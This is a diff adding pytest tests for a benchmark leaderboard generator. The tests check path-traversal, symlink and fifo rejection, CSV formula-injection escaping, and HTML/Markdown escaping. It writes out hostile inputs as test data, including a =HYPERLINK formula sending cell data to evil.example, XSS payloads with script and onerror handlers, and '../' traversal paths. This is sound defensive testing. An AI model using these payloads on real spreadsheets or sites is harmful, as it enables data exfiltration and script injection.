@@ -160,3 +160,124 @@ def test_html_tables_sort_in_chromium(tmp_path):
     assert order(f"#sort={sots}:1:desc") == ["nafnet+robustsam", "dcp", "identity"]  # PSNR, high to low
     assert order(f"#sort={sots}:3") == ["dcp", "nafnet+robustsam", "identity"]  # LPIPS, low to high
     assert order(f"#sort={sots}:0") == ["dcp", "identity", "nafnet+robustsam"]  # by name
+
+
+def _png(path, value):
+    from robustsam_prior.io import write_image
+
+    write_image(path, np.full((8, 8, 3), value, np.float32))
+    return path
+
+
+def test_crops_are_embedded_only_from_the_results_folder_and_only_images(tmp_path, caplog):
+    import base64
+
+    secret = _png(tmp_path / "secret.png", 0.9)  # a file of the machine that builds the board
+    (tmp_path / "passwords.txt").write_text("hunter2")
+    res_dir = tmp_path / "res"
+    ok = {k: _png(res_dir / "res_crops" / "a" / f"{k}.png", v) for k, v in (("degraded", 0.2), ("gt", 0.5), ("output", 0.7))}
+    (res_dir / "link.png").symlink_to(secret)
+    (res_dir / "notes.png").write_text("hunter2 is not an image")
+    os.mkfifo(res_dir / "fifo.png")  # reading it would block the leaderboard forever
+    rows = [
+        _restoration_row("good", 20.0, 0.8, crops={"a.png": {
+            "degraded": "res_crops/a/degraded.png", "gt": str(ok["gt"]), "output": "res_crops/a/output.png"}}),
+        _restoration_row("escape", 19.0, 0.7, crops={"b.png": {
+            "degraded": "../secret.png", "gt": str(secret), "output": "res_crops/../../passwords.txt"}}),
+        _restoration_row("tricks", 18.0, 0.6, crops={"c.png": {
+            "degraded": "link.png", "gt": "notes.png", "output": "fifo.png"}}),
+        _restoration_row("keys", 17.0, 0.5, crops={"a.png": {"good": "res_crops/a/output.png", "output": 3}}),
+    ]
+    results = write_rows(res_dir / "res.jsonl", rows)
+    paths = write_leaderboard([results], tmp_path / "board")
+    html = paths["html"].read_text()
+    for k, p in ok.items():  # the benchmark's own crops, relative or absolute inside the folder
+        assert f"data:image/png;base64,{base64.b64encode(p.read_bytes()).decode()}" in html, k
+    assert base64.b64encode(secret.read_bytes()).decode() not in html
+    assert "aHVudGVy" not in html  # base64 of "hunter"
+    assert len(re.findall(r"data:image/png;base64,", html)) == 3 + html.count("alt='bar plot")
+    warnings = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
+    for line, path in [(2, "'../secret.png'"), (2, repr(str(secret))), (2, "'res_crops/../../passwords.txt'"),
+                       (3, "'link.png'")]:
+        assert any(f"res.jsonl:{line}: " in w and path in w and "outside the results file's folder" in w
+                   for w in warnings), (line, path, warnings)
+    assert any("res.jsonl:3: crop 'gt'" in w and "'notes.png' is not a PNG, JPEG, GIF or WebP image" in w
+               for w in warnings), warnings
+    assert any("res.jsonl:3: crop 'output'" in w and "'fifo.png' is not a regular file" in w for w in warnings), warnings
+    assert any("res.jsonl:4: crop 'good'" in w and "unknown kind of crop" in w for w in warnings), warnings
+    assert any("res.jsonl:4: crop 'output'" in w and "3 is not a path" in w for w in warnings), warnings
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_text_is_escaped_for_csv_markdown_and_html(tmp_path):
+    rows = [
+        {**_restoration_row(HOSTILE, -3.5, "=1+1"), "task": "de|haze", "dataset": {"name": "@SUM(A1)"}},
+        {**_restoration_row("a|b <script>alert(1)</script>\n| x |", 2.0, 0.5), "task": "de|haze",
+         "dataset": {"name": "@SUM(A1)"}},
+        {**_restoration_row("-2+3", 1.0, "-0.25"), "task": "de|haze", "dataset": {"name": "@SUM(A1)"}},
+        {**_restoration_row("cost $\\frac$", 4.0, 0.1), "task": "de|haze", "dataset": {"name": "@SUM(A1)"}},
+    ]
+    paths = write_leaderboard([write_rows(tmp_path / "r.jsonl", rows)], tmp_path / "lb")
+    with open(paths["csv"], newline="") as f:
+        header, *body = list(csv.reader(f))
+    cells = {r[2]: dict(zip(header, r)) for r in body}
+    assert set(cells) == {"'" + HOSTILE, "a|b <script>alert(1)</script>\n| x |", "'-2+3", "cost $\\frac$"}
+    row = cells["'" + HOSTILE]
+    assert row["task"] == "de|haze" and row["dataset"] == "'@SUM(A1)" and row["ssim"] == "'=1+1"
+    assert row["psnr"] == "-3.5" and float(row["psnr"]) == -3.5  # a negative number stays a number
+    assert cells["'-2+3"]["ssim"] == "-0.25"  # text that is only a number is not a formula
+    for r in body:
+        for cell in r:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            if cell.startswith("-"):
+                float(cell)
+    md = paths["md"].read_text()
+    table = [line for line in md.splitlines() if line.startswith("|")]
+    assert len(table) == 2 + 4  # header, rule and one line per method: no row broken by a newline
+    for line in table:
+        assert len(re.findall(r"(?<!\\)\|", line)) == len(table[0].split(" | ")) + 1, line
+    assert "<script>" not in md and "\\<script\\>alert(1)\\</script\\>" in md
+    assert "## de\\|haze / @SUM(A1)" in md and "\\&A1" in md
+    html = paths["html"].read_text()
+    assert "<script>alert" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert "data-task='de|haze' data-dataset='@SUM(A1)'" in html
+    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in html
+    assert html.count("alt='bar plot") == 1  # the $ of a method name did not break the plot
+
+
+def test_leaderboard_cli_errors_name_the_file_and_line(tmp_path):
+    from click.testing import CliRunner
+
+    from pipelines.cli import main
+
+    bad = tmp_path / "bad.jsonl"
+    bad.write_text('{"method": "a", "metrics": {"psnr": 1}}\n{"method": "b", "metrics": [1, 2]}\n')
+    binary = tmp_path / "binary.jsonl"
+    binary.write_bytes(b"\x89PNG\r\n\x1a\n\xff\xfe")
+    for path, message in [(bad, f"{bad}:2: 'metrics' must be a JSON object, not an array"),
+                          (binary, f"{binary}: not a results file (not UTF-8 text")]:
+        res = CliRunner().invoke(main, ["leaderboard", str(path), "--out", str(tmp_path / "lb")])
+        assert res.exit_code == 1 and res.output.startswith(f"Error: {message}"), res.output
+        assert len(res.output.strip().splitlines()) == 1
+    assert not (tmp_path / "lb").exists()
+
+
+@pytest.mark.skipif(_chromium() is None, reason="Chromium is not installed (apt-get install chromium)")
+def test_hostile_names_stay_text_in_chromium(tmp_path):
+    names = ["<img src=x onerror=\"document.title='pwned'\">", "</td></tr></table><script>document.title='pwned'</script>",
+             "x' onmouseover='document.title=1"]
+    rows = [{**_restoration_row(n, 10.0 + i, 0.5), "dataset": {"name": "d' data-x='1"}} for i, n in enumerate(names)]
+    paths = write_leaderboard([write_rows(tmp_path / "r.jsonl", rows)], tmp_path / "lb")
+    dom = subprocess.run(
+        [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
+         "--no-first-run", f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", paths["html"].resolve().as_uri()],
+        check=True, capture_output=True, text=True, timeout=120,
+    ).stdout  # fmt: skip
+    assert "<title>robustsam-restore leaderboard</title>" in dom and "pwned</title>" not in dom
+    assert dom.count("<script>") == 1 and "data-x" not in dom.replace("d' data-x='1", "")
+    import html as html_lib
+
+    cells = [html_lib.unescape(c) for c in re.findall(r'<td class="method">(.*?)</td>', dom, flags=re.S)]
+    assert cells == names
